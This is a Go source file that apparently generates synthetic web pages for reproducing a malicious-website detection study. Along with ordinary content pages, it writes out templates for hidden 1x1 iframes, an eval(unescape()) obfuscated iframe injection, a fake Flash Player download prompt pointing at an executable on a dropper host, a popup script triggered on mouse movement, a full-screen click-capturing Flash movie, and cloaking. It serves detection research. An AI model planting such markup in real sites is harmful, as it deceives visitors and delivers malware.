package web

import (
	"fmt"
	"strings"

	"repro/internal/jsengine"
	"repro/internal/simrand"
	"repro/internal/swf"
)

// renderCtx carries the shared infrastructure hostnames page renderers
// reference.
type renderCtx struct {
	// payloadHost serves the content hidden iframes load (qservz analog).
	payloadHost string
	// adHost is the bogus ad network (AdHitz analog).
	adHost string
	// dropHost serves deceptive executables (yupfiles analog).
	dropHost string
	// swfHost is the Flash CDN (static.yupfiles analog).
	swfHost string
	// analyticsHost is the benign analytics endpoint (§V-E FP shape).
	analyticsHost string
	// oauthHost is the benign OAuth relay endpoint (§V-E FP shape).
	oauthHost string
}

// pageClose ends every rendered page. The body content before it is words
// of [a-z], host names and fixed markup, so it never contains "</body>":
// a payload appended just before pageClose lands exactly where inserting
// it before the page's first "</body>" would put it.
const pageClose = "</body></html>\n"

// renderBenignPage appends an ordinary content page to b.
func renderBenignPage(b []byte, s *Site, path string, rng *simrand.Source) []byte {
	return append(appendBenignBody(b, s, path, rng), pageClose...)
}

// appendBenignBody appends an ordinary content page up to, not including,
// pageClose. A slice of benign sites carries the analytics loader or
// OAuth relay iframe — the shapes behind the paper's false-positive case
// studies.
func appendBenignBody(b []byte, s *Site, path string, rng *simrand.Source) []byte {
	label := s.Host
	if i := strings.IndexByte(label, '.'); i >= 0 {
		label = label[:i]
	}
	title := strings.Title(label) + " — " + string(s.Category)
	b = append(b, "<html><head><title>"...)
	b = append(b, title...)
	b = append(b, "</title></head><body>\n<h1>"...)
	b = append(b, title...)
	b = append(b, "</h1>\n"...)
	paras := rng.Range(2, 5)
	for i := 0; i < paras; i++ {
		b = append(b, "<p>"...)
		words := rng.Range(20, 60)
		for w := 0; w < words; w++ {
			b = rng.AppendWord(b, 3, 9)
			b = append(b, ' ')
		}
		b = append(b, "</p>\n"...)
	}
	// Same-site navigation links.
	for _, p := range s.Pages {
		if p != path {
			b = append(b, "<a href=\"http://"...)
			b = append(b, s.Host...)
			b = append(b, p...)
			b = append(b, "\">"...)
			b = append(b, strings.TrimPrefix(p, "/")...)
			b = append(b, "</a>\n"...)
		}
	}
	if s.HasAnalytics {
		b = appendAnalyticsSnippet(b, s)
	}
	if s.HasOAuthFrame {
		b = appendOAuthRelaySnippet(b, s)
	}
	if s.HasBrochure {
		b = append(b, "<a href=\"http://"...)
		b = append(b, s.Host...)
		b = append(b, "/brochure.pdf\">Download our brochure (PDF)</a>\n"...)
	}
	return b
}

// appendAnalyticsSnippet appends the Google-Analytics-loader shape of §V-E
// Code 8.
func appendAnalyticsSnippet(b []byte, s *Site) []byte {
	b = append(b, `<script>
(function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;})(window,document,'script','//www.simalytics.net/analytics.js','ga');
ga('create', 'UA-`...)
	b = fmt.Appendf(b, "%08d", len(s.Host)*1234567%99999999)
	return append(b, `-1', 'auto');
ga('send', 'pageview');
</script>
`...)
}

// appendOAuthRelaySnippet appends the 1x1 offscreen OAuth relay of §V-E
// Code 7.
func appendOAuthRelaySnippet(b []byte, s *Site) []byte {
	b = append(b, `<iframe name="oauth2relay503410543" id="oauth2relay503410543"
 src="https://accounts.google.sim/o/oauth2/postmessageRelay?parent=http%3A%2F%2F`...)
	b = append(b, s.Host...)
	return append(b, `#rpctoken=1510319259"
 tabindex="-1" style="width: 1px; height: 1px; position: absolute; top: -100px;"></iframe>
`...)
}

// renderBlacklistedPage appends a page on a blacklisted domain: ordinary
// content that monetizes through a bogus ad network. Detection rests on
// the domain's blacklist presence, not page structure.
func renderBlacklistedPage(b []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
	b = appendBenignBody(b, s, path, rng)
	b = fmt.Appendf(b, `<div class="ad-slot"><iframe src="http://%s/banner?zone=%s&pub=%s" width="468" height="60"></iframe></div>
<!-- %s -->
`, ctx.adHost, rng.Token(6), s.Host, s.FamilyToken)
	return append(b, pageClose...)
}

// renderJSMalwarePage appends a MaliciousJS page in the site's variant.
func renderJSMalwarePage(b []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
	b = appendBenignBody(b, s, path, rng)
	var payload string
	switch s.Variant {
	case JSTinyIframe:
		payload = fmt.Sprintf(`<iframe align="right" height="1" name="cwindow" scrolling="NO" src="http://%s/t.php?c=%s" style="border:0 solid #990000;" width="1"></iframe>
<!-- %s -->
`, ctx.payloadHost, rng.Token(10), s.FamilyToken)
	case JSInvisibleIframe:
		payload = fmt.Sprintf(`<iframe src="https://%s/a.php?t=29&o=pix&f=%s&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
<!-- %s -->
`, ctx.payloadHost, rng.Token(12), s.FamilyToken)
	case JSObfuscatedInjection:
		inner := fmt.Sprintf(`document.write('<iframe allowtransparency="true" scrolling="no" frameborder="0" border="0" width="1" height="1" marginwidth="0" marginheight="0" src="http://%s/ai.aspx?tc=%s&url=http://%s/1x1.gif"></iframe>');`,
			ctx.payloadHost, rng.HexToken(32), ctx.payloadHost)
		layers := rng.Range(1, 3)
		obf := inner
		for i := 0; i < layers; i++ {
			obf = `eval(unescape("` + jsengine.Escape(obf) + `"));`
		}
		payload = "<script>var " + s.FamilyToken + " = 1;\n" + obf + "</script>\n"
	case JSDeceptiveDownload:
		payload = deceptiveDownloadMarkup(s, rng, ctx)
	case JSFingerprinting:
		payload = fmt.Sprintf(`<script>
var %s = navigator.userAgent + "|" + screen.width + "x" + screen.height;
document.addEventListener("mousemove", function() {
  window.open("http://%s/pop?sid=%s");
});
</script>
`, s.FamilyToken, ctx.adHost, rng.Token(8))
	default:
		payload = "<!-- " + s.FamilyToken + " -->"
	}
	b = append(b, payload...)
	return append(b, pageClose...)
}

// deceptiveDownloadMarkup is the §V-B fake install prompt: bait text plus
// an anchor that downloads Flash-Player.exe from the dropper host. A
// fraction of these pages also link the dropper's exploit document (an
// auto-open-JavaScript PDF).
func deceptiveDownloadMarkup(s *Site, rng *simrand.Source, ctx renderCtx) string {
	pdfLink := ""
	if rng.Bool(0.4) {
		pdfLink = fmt.Sprintf("<a href=\"http://%s/doc/invoice-%s.pdf\">View invoice (PDF)</a>\n", ctx.dropHost, rng.Token(6))
	}
	id := rng.HexToken(16)
	return pdfLink + fmt.Sprintf(`<div id="dm_topbar">
<a href="data:text/html,%%3Chtml%%3E%%3Cscript%%3Ewindow.location.href%%3D%%22http%%3A%%2F%%2F%s%%2Fc%%3Fx%%3D%s%%26downloadAs%%3DFlash-Player.exe%%22%%3B%%3C/script%%3E"
 data-dm-title="Flash Player" data-dm-format="3" data-dm-filesize="1.1" target="_blank"
 data-dm-href="http://%s/downloader?id=%s" data-dm-filename="null" class="download_link">
<div id="dm_topbar_block">
<span id="dm_topbar_text">A pagina necessita do plugin para continuar.</span>
<span id="dm_topbar_link">Instalar plug-in</span>
</div></a></div>
<!-- %s -->
`, ctx.dropHost, rng.HexToken(24), ctx.dropHost, id, s.FamilyToken)
}

// renderFlashMalwarePage appends a page embedding the AdFlash-style movie
// from the SWF CDN.
func renderFlashMalwarePage(b []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
	b = appendBenignBody(b, s, path, rng)
	n := rng.Range(10, 99)
	b = fmt.Appendf(b, `<embed src="http://%s/swf/AdFlash%d.swf" type="application/x-shockwave-flash" width="100%%" height="100%%" wmode="transparent"></embed>
<!-- %s -->
`, ctx.swfHost, n, s.FamilyToken)
	return append(b, pageClose...)
}

// renderMiscMalwarePage appends a page with family markers but no
// structural category evidence: the Miscellaneous bucket.
func renderMiscMalwarePage(b []byte, s *Site, path string, rng *simrand.Source) []byte {
	b = appendBenignBody(b, s, path, rng)
	b = append(b, "<script>var "...)
	b = append(b, s.FamilyToken...)
	b = append(b, " = \""...)
	b = rng.AppendToken(b, 16)
	b = append(b, "\";</script>\n"...)
	return append(b, pageClose...)
}

// renderLandingPage appends the final page of a redirect chain: an
// offerwall carrying the family token.
func renderLandingPage(b []byte, s *Site, ctx renderCtx) []byte {
	return fmt.Appendf(b, `<html><head><title>Special Offer</title></head><body>
<h1>Your download is ready</h1>
<a href="http://%s/get?f=installer.exe">Download now</a>
<script>var %s = 1;</script>
</body></html>
`, ctx.dropHost, s.FamilyToken)
}

// buildAdFlashMovie assembles the §V-D movie served by the SWF CDN.
func buildAdFlashMovie(rng *simrand.Source) []byte {
	sb := swf.NewScript().Obfuscate(byte(rng.Range(1, 255)))
	handler := sb.NewSegment()
	sb.AllowDomain(0, "*")
	sb.SetScaleMode(0, "EXACT_FIT")
	sb.Listen(0, "mouseUp", handler)
	sb.ExternalCall(handler, "AdFlash.onClick")
	sb.DisplayState(handler, "fullScreen")
	sb.ExternalCall(handler, "window."+rng.LowerToken(6))
	sb.DisplayState(handler, "normal")
	return swf.NewBuilder(800, 600).
		Meta("name", fmt.Sprintf("AdFlash%d", rng.Range(10, 99))).
		AddClickArea(swf.ClickArea{X: 0, Y: 0, W: 800, H: 600, Alpha: 0}).
		Script(sb).
		Encode()
}

// cleanVariant appends the cloaked response, stripped of malicious
// payloads: the same page rendered as if it were benign.
func cleanVariant(b []byte, s *Site, path string, rng *simrand.Source) []byte {
	clone := *s
	clone.HasAnalytics = false
	clone.HasOAuthFrame = false
	return renderBenignPage(b, &clone, path, rng)
}
